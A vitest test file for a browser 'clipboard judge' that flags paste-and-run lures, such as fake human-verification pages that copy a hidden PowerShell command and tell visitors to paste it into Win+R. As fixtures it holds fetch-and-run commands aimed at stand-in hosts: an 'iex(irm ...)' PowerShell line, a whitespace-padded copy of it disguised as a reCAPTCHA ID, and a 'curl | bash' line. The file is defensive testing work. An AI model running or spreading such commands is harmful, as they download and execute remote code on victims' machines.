// @vitest-environment happy-dom
import { beforeEach, describe, expect, it } from 'vitest';
import { judgeHeld } from '@/utils/guards/clipboard-judge';

/**
 * The clipboard judge on the page a text came from. happy-dom draws nothing, so no text is ever
 * readable here: whether a page shows a command openly is the e2e tests' (30 documentation
 * sites in both browsers); these hold what is decided before that.
 */
const COMMAND = 'powershell -w h -c "iex(irm https://check-human.example/a.ps1)"';

beforeEach(() => {
  document.body.innerHTML = '<h1>Verify you are human</h1><p>Press the button.</p>';
});

describe('the clipboard judge', () => {
  it('lets through what is no command that fetches or runs code', () => {
    for (const text of ['call me at 5 pm', 'curl --version', 'start the game', 'cmd.exe'])
      expect(judgeHeld(text, 'writeText', document)).toEqual({ stop: false });
  });

  it('stops a command that hides part of itself, wherever it came from', () => {
    const padded = `${COMMAND}${' '.repeat(60)}# I am not a robot - reCAPTCHA Verification ID: 4821`;
    for (const how of ['writeText', 'copy-event', 'selection'] as const)
      expect(judgeHeld(padded, how, document)).toEqual({
        stop: true,
        shell: 'windows',
        why: 'concealed',
      });
  });

  it('stops a page’s copy on a page that says to open Run and paste', () => {
    document.body.innerHTML = `<p>To verify: press <b>Win + R</b>, then Ctrl + V and Enter.</p><pre>${COMMAND}</pre>`;
    expect(judgeHeld(COMMAND, 'writeText', document)).toEqual({
      stop: true,
      shell: 'windows',
      why: 'instructions',
    });
  });

  it('stops a page’s copy, and a person’s copy of a selection, that the page does not show', () => {
    expect(judgeHeld(COMMAND, 'copy', document)).toMatchObject({ why: 'unseen' });
    expect(judgeHeld('curl -fsSL https://x.example/i.sh | bash', 'selection', document)).toEqual({
      stop: true,
      shell: 'terminal',
      why: 'unseen',
    });
  });
});
